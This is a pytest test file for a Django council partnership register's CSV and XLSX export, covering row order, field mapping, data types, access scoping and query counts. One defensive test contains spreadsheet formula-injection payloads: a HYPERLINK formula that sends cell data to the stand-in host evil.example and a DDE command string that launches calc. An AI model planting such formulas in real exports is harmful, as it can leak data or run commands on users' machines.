"""The register as CSV and XLSX (issue 16): the rows on screen, in their order, every field,
numbers as numbers and dates as dates, no formula anyone typed, a fixed number of queries
per chunk however long the register."""

from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from checklists import services
from partnerships.models import PartnershipMember
from tests.checklists.factories import start, submitted
from tests.factories import (
    CouncilFactory,
    OrganisationFactory,
    PartnershipFactory,
    RiskFactory,
    ThemeFactory,
    UserFactory,
)
from tests.spreadsheets import body, csv_rows, filename, xlsx_rows, xlsx_sheet

pytestmark = pytest.mark.django_db

EXPORTS = {"csv": (csv_rows, "/register/export.csv"), "xlsx": (xlsx_rows, "/register/export.xlsx")}


def on_screen(client, query: str) -> list[str]:
    """The references the register page shows for `query`, page after page."""
    references, number = [], 1
    while True:
        page = client.get(f"/register/?{query}&page={number}").context["page"]
        references += [p.reference for p in page.object_list]
        if not page.has_next():
            return references
        number += 1


@pytest.fixture
def varied_register(lead_member):
    """120 partnerships (three pages) that sort differently by each column, some overdue,
    some joint, some searched for."""
    harbourside, vale = CouncilFactory(name="Harbourside"), CouncilFactory(name="Wessex Vale")
    lead_member.councils.add(harbourside, vale)
    officers = [UserFactory(role="Officer", first_name=name, last_name="Officer") for name in ("Ann", "Bob", "Cy")]
    today = timezone.localdate()
    for n in range(120):
        PartnershipFactory(
            name=f"{'Housing' if n % 3 == 0 else 'Safety'} partnership {(n * 37) % 120:03d}",
            scope="strategic" if n % 2 else "operational", status=["active", "proposed", "closed"][n % 3],
            councils=[harbourside, vale][: 1 + n % 2], lead_officer=officers[n % 3],
            annual_contribution=Decimal((n * 7919) % 5000), next_review_due=today + timedelta(days=(n * 13) % 90 - 45),
        )


@pytest.mark.parametrize("query", ["", "sort=-contribution", "scope=strategic&sort=next_review", "q=housing",
                                   "overdue=yes&sort=-name", "sort=lead_officer", "sort=status&page=2"])
@pytest.mark.parametrize("fmt", EXPORTS)
def test_it_holds_exactly_the_rows_on_screen_in_their_order(member_client, varied_register, settings, query, fmt):
    settings.EXPORT_CHUNK_SIZE = 7  # many chunks, so their joins are crossed
    rows, url = EXPORTS[fmt]
    shown = on_screen(member_client, query.replace("&page=2", ""))
    assert len(shown) >= 30  # and unfiltered, three pages
    exported = [row["Reference"] for row in rows(member_client.get(f"{url}?{query}"))]
    assert exported == shown


def test_the_register_links_to_its_downloads_with_its_filters_but_not_its_page(member_client, varied_register):
    body_text = member_client.get("/register/?scope=strategic&sort=-contribution&page=2").content.decode()
    assert 'href="/register/export.csv?scope=strategic&amp;sort=-contribution">Download as CSV</a>' in body_text
    assert ('href="/register/export.xlsx?scope=strategic&amp;sort=-contribution">'
            "Download as spreadsheet (XLSX)</a>") in body_text


def test_an_empty_register_offers_no_download(member_client):
    assert "register-downloads" not in member_client.get("/register/").content.decode()


@pytest.fixture
def full_entry(lead_member):
    """One partnership with every field filled in, inside a parent, with an approved checklist."""
    harbourside = CouncilFactory(name="Harbourside Borough Council", short_name="Harbourside")
    vale = CouncilFactory(name="Wessex Vale District Council", short_name="Wessex Vale")
    lead_member.councils.add(harbourside, vale)
    lead = UserFactory(username="dsharma", first_name="Dev", last_name="Sharma", role="Officer",
                       councils=[harbourside, vale])
    parent = PartnershipFactory(name="Local Strategic Partnership", councils=[harbourside], lead_officer=lead)
    partnership = PartnershipFactory(
        name="Community Safety Partnership", purpose="Reduce crime and disorder.", status="under_review",
        scope="strategic", basis="statutory", membership="multi", level="local", council_role="leading",
        legal_status="joint_committee", councils=[harbourside, vale], lead_officer=lead, parent=parent,
        lead_member="Cllr P Bennett", lead_member_account=lead_member, council_representative="Chief Inspector",
        themes=[ThemeFactory(name="Community safety"), ThemeFactory(name="Young people")],
        annual_contribution=Decimal("32000.50"), officer_days=Decimal("12.5"), total_budget=Decimal("250000"),
        performance_method="quarterly", performance_notes="Quarterly indicators to the board.",
        start_date=date(2019, 4, 1), end_date=date(2029, 3, 31), review_frequency=6,
        next_review_due=date(2020, 1, 31),
    )
    PartnershipMember.objects.create(partnership=partnership, organisation=OrganisationFactory(name="Wessex Police"),
                                     role="chair")
    PartnershipMember.objects.create(partnership=partnership, organisation=OrganisationFactory(name="Dorset NHS"),
                                     role="funder")
    RiskFactory(partnership=partnership, likelihood=4, impact=4)
    RiskFactory(partnership=partnership, likelihood=5, impact=5, status="closed")  # closed: not the highest open
    checklist = submitted(partnership, UserFactory(role="Officer"), "checklist", title="2025-26 checklist")
    services.assessment_approve(assessment=checklist, version=checklist.version, user=UserFactory(role="Administrator"),
                                assurance="reasonable")
    return partnership


def test_every_register_field_is_in_the_csv(member_client, full_entry):
    row = next(r for r in csv_rows(member_client.get("/register/export.csv")) if r["Name"] == full_entry.name)
    assert row == {
        "Reference": full_entry.reference,
        "Name": "Community Safety Partnership",
        "Status": "Under review",
        "Purpose and aims": "Reduce crime and disorder.",
        "Strategic or operational": "Strategic",
        "Statutory or voluntary": "Statutory",
        "Single or multi organisation": "Multi organisation",
        "National, regional or local": "Local",
        "Council’s role": "Leading",
        "Legal status": "Joint committee",
        "Councils taking part": "Harbourside Borough Council; Wessex Vale District Council",
        "Lead officer": "Dev Sharma",
        "Lead member": "Cllr P Bennett",
        "Lead member’s account": "Peter Bennett",
        "Council representative": "Chief Inspector",
        "Partners": "Dorset NHS (Funder); Wessex Police (Chair)",
        "Themes": "Community safety; Young people",
        "Parent partnership": f"Local Strategic Partnership ({full_entry.parent.reference})",
        "Annual council contribution (£)": "32000.50",
        "Officer time (days a year)": "12.5",
        "Total partnership budget (£)": "250000.00",
        "Performance management method": "Quarterly performance indicators",
        "How performance is managed": "Quarterly indicators to the board.",
        "Start date": "2019-04-01",
        "End date": "2029-03-31",
        "Review frequency": "Every 6 months",
        "Next review due": "2020-01-31",
        "Review overdue": "Yes",
        "Latest assessment": "2025-26 checklist",
        "Latest assessment tool": "Partnership checklist",
        "Latest assessment status": "Approved",
        "Latest assurance": "Reasonable assurance",
        "Highest open risk": "High",
        "Highest open risk score": "16",
    }


def test_the_spreadsheet_holds_money_as_numbers_and_dates_as_dates(member_client, full_entry):
    response = member_client.get("/register/export.xlsx")
    assert filename(response) == f"partnership-register-{timezone.localdate().isoformat()}.xlsx"
    row = next(r for r in xlsx_rows(response) if r["Name"] == full_entry.name)
    assert row["Annual council contribution (£)"] == 32000.5
    assert row["Total partnership budget (£)"] == 250000
    assert row["Officer time (days a year)"] == 12.5
    assert row["Next review due"] == datetime(2020, 1, 31)
    assert row["Start date"] == datetime(2019, 4, 1)
    assert row["Councils taking part"] == "Harbourside Borough Council; Wessex Vale District Council"
    parent = next(r for r in xlsx_rows(member_client.get("/register/export.xlsx")) if r["Name"] != full_entry.name)
    assert parent["Total partnership budget (£)"] is None and parent["Latest assessment"] is None
    sheet = xlsx_sheet(member_client.get("/register/export.xlsx"))
    headings = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=2).value == full_entry.name  # before the parent, alphabetically
    money, review = (sheet.cell(row=2, column=headings.index(heading) + 1)
                     for heading in ("Annual council contribution (£)", "Next review due"))
    assert money.data_type == "n" and money.number_format == "#,##0.00"
    assert review.is_date and review.number_format == "yyyy-mm-dd"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_the_csv_is_named_for_the_register_and_the_day(member_client, full_entry):
    response = member_client.get("/register/export.csv")
    assert filename(response) == f"partnership-register-{timezone.localdate().isoformat()}.csv"
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("fmt", EXPORTS)
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(member_client, lead_member, first, fmt):
    typed = f"{first}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    partnership = PartnershipFactory(name=typed, lead_member=f"{first}1+1", purpose=f"{first}cmd|' /C calc'!A0",
                                     partners=[OrganisationFactory(name=f"{first}SUM(A1:A9)")])
    rows, url = EXPORTS[fmt]
    row = rows(member_client.get(url))[0]
    for heading, text in (("Name", typed), ("Lead member", f"{first}1+1"), ("Purpose and aims", f"{first}cmd|' /C calc'!A0"),
                          ("Partners", f"{first}SUM(A1:A9) (Member)")):
        assert row[heading].startswith("'")
        # In an XLSX a carriage return reads back as a line break (XML), still after the quote.
        assert row[heading][1:].replace("\n", "\r") == text.replace("\n", "\r")
    assert row["Reference"] == partnership.reference  # text that begins safely is left as it is
    if fmt == "xlsx":
        sheet = xlsx_sheet(member_client.get(url))
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_control_character_an_xlsx_cannot_hold_is_dropped_not_a_failure(member_client, lead_member):
    PartnershipFactory(name="Bell\x07 and vertical\x0b tab", purpose="Pasted\x08 from Word")
    row = xlsx_rows(member_client.get("/register/export.xlsx"))[0]
    assert row["Name"] == "Bell and vertical tab" and row["Purpose and aims"] == "Pasted from Word"
    assert csv_rows(member_client.get("/register/export.csv"))[0]["Name"] == "Bell\x07 and vertical\x0b tab"


def test_a_reader_gets_the_latest_assessment_they_may_see_and_an_officer_the_draft(client, lead_member, officer):
    partnership = PartnershipFactory()
    submitted(partnership, officer, "checklist", title="Submitted checklist")
    start(partnership, officer, "improvement", title="Draft review")
    client.force_login(lead_member)
    assert csv_rows(client.get("/register/export.csv"))[0]["Latest assessment"] == "Submitted checklist"
    client.force_login(officer)
    row = csv_rows(client.get("/register/export.csv"))[0]
    assert (row["Latest assessment"], row["Latest assessment status"]) == ("Draft review", "Draft")


def test_another_councils_partnership_is_never_exported(client, lead_member):
    PartnershipFactory(name="Our Partnership")
    elsewhere = CouncilFactory(name="Dorset Council")
    PartnershipFactory(name="Dorset Coast Forum", councils=[elsewhere])
    client.force_login(lead_member)
    for fmt, (rows, url) in EXPORTS.items():
        assert [r["Name"] for r in rows(client.get(url))] == ["Our Partnership"]
        assert [r["Name"] for r in rows(client.get(f"{url}?council={elsewhere.pk}"))] == []


@pytest.mark.parametrize("query", ["scope=sideways", "council=abc", "lead_officer=99999999999999999999999",
                                   "sort=password", "theme=-1&status=gone"])
@pytest.mark.parametrize("fmt", EXPORTS)
def test_bad_filters_send_the_reader_back_to_the_register_to_correct_them(member_client, lead_member, query, fmt):
    PartnershipFactory()
    response = member_client.get(f"{EXPORTS[fmt][1]}?{query}&page=3")
    assert response.status_code == 302
    assert response.url == f"/register/?{query}"
    page = member_client.get(response.url, follow=True).content.decode()
    assert "Correct the filters before downloading the register." in page
    assert "There is a problem" in page


def queries_to_export(client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        body(response)
    return len(captured.captured_queries)


def add_partnerships(count: int, *, officer, council, theme, partner):
    for n in range(count):
        partnership = PartnershipFactory(lead_officer=officer, councils=[council], themes=[theme], partners=[partner])
        if n % 4 == 0:
            submitted(partnership, officer, "checklist")


@pytest.mark.parametrize("fmt", EXPORTS)
def test_an_export_takes_the_same_queries_per_chunk_however_many_partnerships(member_client, lead_member, settings, fmt):
    settings.EXPORT_CHUNK_SIZE = 10
    made = {"officer": UserFactory(role="Officer"), "council": lead_member.councils.get(), "theme": ThemeFactory(),
            "partner": OrganisationFactory()}
    url = f"{EXPORTS[fmt][1]}?sort=-contribution"
    add_partnerships(5, **made)
    five = queries_to_export(member_client, url)
    add_partnerships(5, **made)
    assert queries_to_export(member_client, url) == five  # ten: still one chunk
    add_partnerships(50, **made)
    # Six chunks of ten: each reads its councils, themes, partners and latest assessments once.
    assert queries_to_export(member_client, url) == five + 5 * 4
    assert len(EXPORTS[fmt][0](member_client.get(url))) == 60
